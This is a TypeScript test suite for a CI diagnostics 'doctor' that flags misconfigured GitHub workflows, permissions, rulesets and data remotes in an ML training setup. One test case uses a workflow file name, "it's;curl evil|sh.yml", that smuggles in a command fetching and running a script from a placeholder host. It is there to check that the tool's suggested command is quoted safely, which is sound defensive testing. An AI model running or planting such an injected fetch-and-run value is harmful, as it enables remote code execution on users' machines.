// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts of workflow files
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import { CALLED } from "../../../src/core/doctor/calls.ts";
import { diagnose } from "../../../src/core/doctor/diagnose.ts";
import type { ForgeFacts, Tree } from "../../../src/core/doctor/facts.ts";
import { showDiagnosis } from "../../../src/core/doctor/show.ts";
import { readWorkflow } from "../../../src/core/doctor/workflow.ts";
import { FORGE, JUDGE, PROPOSE, SOUND, starter, TREE } from "./sound.ts";

const at = { file: ".dvc/config", line: 4 };
const registry = (host: string, name: string) =>
  ({ kind: "registry", url: `oci://${host}/${name}`, host, name }) as const;
const rules = FORGE.rules;
const other = (text: string) => [...starter(), readWorkflow(text, ".github/workflows/other.yml")];

/** Contracts that deploy, monitor and retrain, beside the starter's workflows for that. */
const AFTER: Tree["after"] = {
  deployed: ["wages"],
  monitored: [{ model: "wages", every: "daily" }],
  retrainable: ["wages"],
  retrained: [{ model: "wages", every: "monthly" }],
};
const served = (change: Readonly<Record<string, (text: string) => string | undefined>> = {}) => [
  ...starter(),
  ...["release", "monitor", "retrain"].flatMap((name) => {
    const path = `.github/workflows/trainyard-${name}.yml`;
    const text = readFileSync(path.replace(".github", "templates"), "utf8");
    const changed = (change[name] ?? ((same) => same))(text);
    return changed === undefined ? [] : [readWorkflow(changed, path)];
  }),
];
const swap = (from: string, to: string) => (text: string) => {
  assert.ok(text.includes(from), from);
  return text.replace(from, to);
};

/** One thing that is not as it should be, and what is found: by name, gravity and words. */
const CASES: readonly (readonly [
  name: string,
  severity: "broken" | "advice",
  change: { readonly tree?: Partial<Tree>; readonly forge?: Partial<ForgeFacts> },
  words: RegExp,
])[] = [
  ["no-git", "broken", { tree: { inGit: false } }, /git init/],
  ["no-contract", "broken", { tree: { contracts: [] } }, /npx trainyard init/],
  [
    "no-pull-request",
    "broken",
    { tree: { workflows: starter().slice(1) } },
    /no workflow trains what a pull request proposes/,
  ],
  [
    "no-judge",
    "broken",
    { tree: { workflows: starter().slice(0, 1) } },
    /no workflow judges what was trained/,
  ],
  [
    "no-release",
    "broken",
    { tree: { after: AFTER, workflows: served({ release: () => undefined }) } },
    /no workflow deploys what is merged, and the contract of wages says that one should/,
  ],
  [
    "no-monitor",
    "broken",
    { tree: { after: AFTER, workflows: served({ monitor: () => undefined }) } },
    /nothing calls trainyard\/trainyard\/\.github\/workflows\/monitor\.yml/,
  ],
  [
    "no-retrain",
    "broken",
    { tree: { after: AFTER, workflows: served({ retrain: () => undefined }) } },
    /no workflow proposes a retrained model/,
  ],
  [
    "no-trigger",
    "broken",
    { tree: { after: AFTER, workflows: served({ release: swap("  push:", "  release:") }) } },
    /does not start on push/,
  ],
  [
    "stale-schedule",
    "advice",
    { tree: { after: AFTER, workflows: served({ monitor: swap("5 3 * * *", "0 0 * * *") }) } },
    /- cron: "5 3 \* \* \*" # wages/,
  ],
  [
    "stale-schedule",
    "broken",
    {
      tree: {
        after: AFTER,
        workflows: served({ retrain: (text) => text.replace(/ {2}schedule:\n(?: {4}.*\n)+/, "") }),
      },
    },
    /not when the contract of wages says/,
  ],
  [
    "stopped-workflow",
    "broken",
    {
      tree: { after: AFTER, workflows: served({}) },
      forge: { disabled: new Map([[".github/workflows/trainyard-monitor.yml", "disabled_inactivity"]]) },
    },
    /gh workflow enable trainyard-monitor\.yml --repo acme\/wages/,
  ],
  [
    "stopped-workflow",
    "broken",
    {
      tree: {
        after: AFTER,
        workflows: served({}).map((workflow) => ({
          ...workflow,
          file: workflow.file.replace("monitor.yml", "it's;curl evil|sh.yml"),
        })),
      },
      forge: {
        disabled: new Map([[".github/workflows/trainyard-it's;curl evil|sh.yml", "disabled_manually"]]),
      },
    },
    /gh workflow enable 'trainyard-it'\\''s;curl evil\|sh\.yml' --repo acme\/wages/,
  ],
  [
    "missing-permission",
    "broken",
    {
      tree: { after: AFTER, workflows: served({ release: swap("deployments: write", "deployments: read") }) },
    },
    /"deployments: write"/,
  ],
  ["no-command", "advice", { tree: { workflows: starter().slice(0, 1) } }, /\/trainyard train COMMIT/],
  [
    "no-trigger",
    "broken",
    { tree: { workflows: starter(PROPOSE, "  pull_request:", "  push:") } },
    /does not start on pull_request/,
  ],
  [
    "no-trigger",
    "broken",
    { tree: { workflows: starter(JUDGE, "  issue_comment:", "  issues:") } },
    /issue_comment:/,
  ],
  [
    "judge-waits-for-another",
    "broken",
    { tree: { workflows: starter(PROPOSE, "name: Trainyard", "name: Train") } },
    /waits for "Trainyard", and what trains is called "Train"/,
  ],
  [
    "judge-refuses-the-file",
    "broken",
    {
      tree: {
        workflows: starter().map((one) =>
          one.file === PROPOSE ? { ...one, file: ".github/workflows/ml.yml" } : one,
        ),
      },
    },
    /workflow: \.github\/workflows\/ml\.yml/,
  ],
  [
    "judge-not-merged",
    "advice",
    { forge: { onDefault: [PROPOSE] } },
    /not on the default branch "main" yet.*verdicts begin with the next/s,
  ],
  [
    "missing-permission",
    "broken",
    { tree: { workflows: starter(JUDGE, "      checks: write # the check\n") } },
    /job "judge" does not grant "checks: write"/,
  ],
  [
    "missing-permission",
    "broken",
    { tree: { workflows: starter(JUDGE, "      statuses: write", "      statuses: read") } },
    /"statuses: write"/,
  ],
  [
    "missing-permission",
    "broken",
    {
      tree: {
        workflows: starter(
          PROPOSE,
          "    permissions:\n      contents: read # the change and its base\n      packages: read # data in ghcr.io\n",
        ),
      },
    },
    /permissions:\n +contents: read/,
  ],
  ["wide-default", "advice", { forge: { defaultPermissions: "write" } }, /Workflow permissions/],
  [
    "folder-remote",
    "broken",
    { tree: { remote: { kind: "folder", url: "../store", at } } },
    /the folder "\.\.\/store".*hosted runner/s,
  ],
  [
    "broken-remote",
    "broken",
    { tree: { remote: { kind: "broken", message: 'no remote "x" with a url' } } },
    /no remote "x"/,
  ],
  [
    "no-remote",
    "broken",
    { tree: { remote: { kind: "none" }, pointers: ["data/a.csv.dvc"] } },
    /data\/a\.csv\.dvc names data that Git does not hold/,
  ],
  ["no-remote", "advice", { tree: { remote: { kind: "none" } } }, /nowhere to stay/],
  [
    "foreign-registry",
    "broken",
    { tree: { remote: registry("ghcr.io", "other/wages") } },
    /is not acme's.*oci:\/\/ghcr\.io\/acme\/wages/s,
  ],
  [
    "folder-remote",
    "broken",
    { tree: { remote: registry("127.0.0.1:5000", "acme/wages") } },
    /a registry of this machine.*hosted runner/s,
  ],
  [
    "registry-login",
    "advice",
    { tree: { remote: registry("quay.io", "acme/wages") } },
    /TRAINYARD_REGISTRY=quay\.io/,
  ],
  [
    "queue-waits",
    "broken",
    { tree: { workflows: starter(PROPOSE, "  merge_group:\n") } },
    /does not start on merge_group/,
  ],
  [
    "status-not-required",
    "advice",
    { forge: { rules: { ...rules, required: [] } } },
    /merged against its verdict/,
  ],
  [
    "status-of-anybody",
    "advice",
    { forge: { rules: { ...rules, required: [{ context: "trainyard", app: undefined }] } } },
    /may come from any workflow/,
  ],
  [
    "status-of-anybody",
    "advice",
    { forge: { rules: { ...rules, required: [{ context: "trainyard", app: 15368 }] } } },
    /choose your team's App/,
  ],
  [
    "status-of-another-app",
    "broken",
    { forge: { appId: "8" } },
    /must come from App 7, and TRAINYARD_APP_ID is 8/,
  ],
  ["status-of-absent-app", "broken", { forge: { appId: null } }, /TRAINYARD_APP_ID is not set/],
  [
    "app-not-named",
    "advice",
    {
      tree: {
        workflows: starter(
          JUDGE,
          "      app-id: ${{ vars.TRAINYARD_APP_ID }} # empty: writes with the workflow's token, which is advisory\n",
        ),
      },
    },
    /names no App.*vars\.TRAINYARD_APP_ID/s,
  ],
  [
    "no-app",
    "advice",
    { forge: { appId: null, rules: { ...rules, required: [] } } },
    /whoever may push a workflow file can give the same status/,
  ],
  [
    "no-app",
    "advice",
    { forge: { appId: null, rules: { ...rules, required: [{ context: "test", app: undefined }] } } },
    /"test" would wait for ever/,
  ],
  [
    "open-environment",
    "advice",
    { forge: { environment: { exists: true, restricted: false } } },
    /every branch may use/,
  ],
  [
    "open-environment",
    "advice",
    { forge: { environment: { exists: false, restricted: false } } },
    /there is no environment/,
  ],
  [
    "open-ledger",
    "advice",
    { forge: { ledger: { protected: false } } },
    /branch "trainyard".*New branch ruleset/s,
  ],
  ["open-tags", "advice", { forge: { tagsProtected: false } }, /New tag ruleset/],
  [
    "unowned-rules",
    "advice",
    { tree: { owners: undefined } },
    /nobody owns trainyard\.yaml, trainyard\.lock.*\.github\/CODEOWNERS/s,
  ],
  [
    "unowned-rules",
    "advice",
    { tree: { owners: { path: "CODEOWNERS", text: "* @ada\n/trainyard.lock\n" } } },
    /nobody owns trainyard\.lock/,
  ],
  [
    "owners-not-asked",
    "advice",
    { forge: { rules: { ...rules, codeOwners: false } } },
    /Require review from Code Owners/,
  ],
  [
    "plan-without-rules",
    "advice",
    { forge: { plan: "free" } },
    /GitHub Free enforces no rules in a private repository/,
  ],
  ["plan-without-reviewers", "advice", { forge: { plan: "team" } }, /promotion pull request/],
  [
    "unpinned",
    "advice",
    { tree: { workflows: other("on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v5\n") } },
    /actions\/checkout@<40 digits> # v5/,
  ],
  [
    "pull-request-target",
    "advice",
    { tree: { workflows: other("on: pull_request_target\n") } },
    /base's secrets/,
  ],
  [
    "pull-request-target",
    "broken",
    { tree: { workflows: other("on: pull_request_target\n") }, forge: { private: false } },
    /blocks the event in public repositories/,
  ],
  [
    "inherited-secrets",
    "advice",
    {
      tree: {
        workflows: starter(
          PROPOSE,
          "secrets:\n      TRAINYARD_REMOTE: ${{ secrets.TRAINYARD_REMOTE }}",
          "secrets: inherit",
        ),
      },
    },
    /every secret there is/,
  ],
];

describe("the doctor", () => {
  it("finds nothing where there is nothing, and says that verdicts are enforced", () => {
    const { standing, findings } = diagnose(SOUND);
    assert.deepEqual(findings, []);
    assert.equal(standing.level, "enforced");
    const text = showDiagnosis({ standing, findings }, { forge: FORGE, why: undefined });
    assert.equal(
      text,
      "acme/wages: private, GitHub Enterprise Cloud\nVerdicts are enforced: only your App can give them, and rules keep ledger and tags.\n\nnothing to mend",
    );
  });

  it("finds nothing where the contracts deploy, monitor and retrain, and the starter's workflows are there", () => {
    const { findings } = diagnose({ tree: { ...TREE, after: AFTER, workflows: served() }, forge: FORGE });
    assert.deepEqual(findings, []);
  });

  for (const [name, severity, { tree, forge }, words] of CASES) {
    it(`finds ${name} where ${words.source}`, () => {
      const diagnosis = diagnose({ tree: { ...TREE, ...tree }, forge: { ...FORGE, ...forge } });
      const found = diagnosis.findings.filter(
        (finding) => finding.name === name && finding.severity === severity,
      );
      assert.ok(found.length > 0, JSON.stringify(diagnosis.findings, undefined, 2));
      const shown = showDiagnosis({ ...diagnosis, findings: found }, { forge: FORGE, why: undefined });
      assert.match(shown, words);
      assert.match(
        shown,
        new RegExp(severity === "broken" ? "[1-9] broken, 0 advice" : "0 broken, [1-9] advice"),
      );
    });
  }

  it("has a case for every finding that it can make", async () => {
    const { globSync } = await import("tinyglobby");
    const source = globSync("src/core/doctor/questions/*.ts")
      .map((file) => readFileSync(file, "utf8"))
      .join("");
    const names = new Set([...source.matchAll(/name: "([a-z-]+)"/g)].map(([, name]) => name));
    for (const called of CALLED) if (called !== "reconcile") names.add(`no-${called}`);
    assert.deepEqual([...names].sort(), [...new Set(CASES.map(([name]) => name))].sort());
  });

  it("sorts what is broken before what is advice", () => {
    const { findings } = diagnose({
      tree: { ...TREE, owners: undefined, contracts: [], remote: { kind: "none" } },
      forge: undefined,
    });
    assert.deepEqual(
      findings.map(({ severity }) => severity),
      [...findings.map(({ severity }) => severity)].sort().reverse(),
    );
  });
});

describe("the standing", () => {
  const levelOf = (forge: Partial<ForgeFacts> | undefined) =>
    diagnose({ tree: TREE, forge: forge && { ...FORGE, ...forge } }).standing;

  it("is unknown without the forge, and where a part cannot be seen", () => {
    assert.equal(levelOf(undefined).level, "unknown");
    assert.deepEqual(levelOf({ tagsProtected: undefined }), {
      level: "unknown",
      missing: [],
      unseen: ["a ruleset on tags"],
    });
  });

  for (const [what, forge] of [
    [
      "the status is not bound to an App",
      { rules: { ...rules, required: [{ context: "trainyard", app: undefined }] } },
    ],
    [
      "the status is bound to GitHub Actions",
      { rules: { ...rules, required: [{ context: "trainyard", app: 15368 }] } },
    ],
    ["another status is bound", { rules: { ...rules, required: [{ context: "test", app: 7 }] } }],
    ["the ledger is open", { ledger: { protected: false } }],
    ["tags are open", { tagsProtected: false }],
    ["the App's key can be had from any branch", { environment: { exists: true, restricted: false } }],
    ["one thing is missing and another unseen", { tagsProtected: undefined, ledger: { protected: false } }],
  ] as const) {
    it(`is advisory where ${what}`, () => assert.equal(levelOf(forge).level, "advisory"));
  }
});
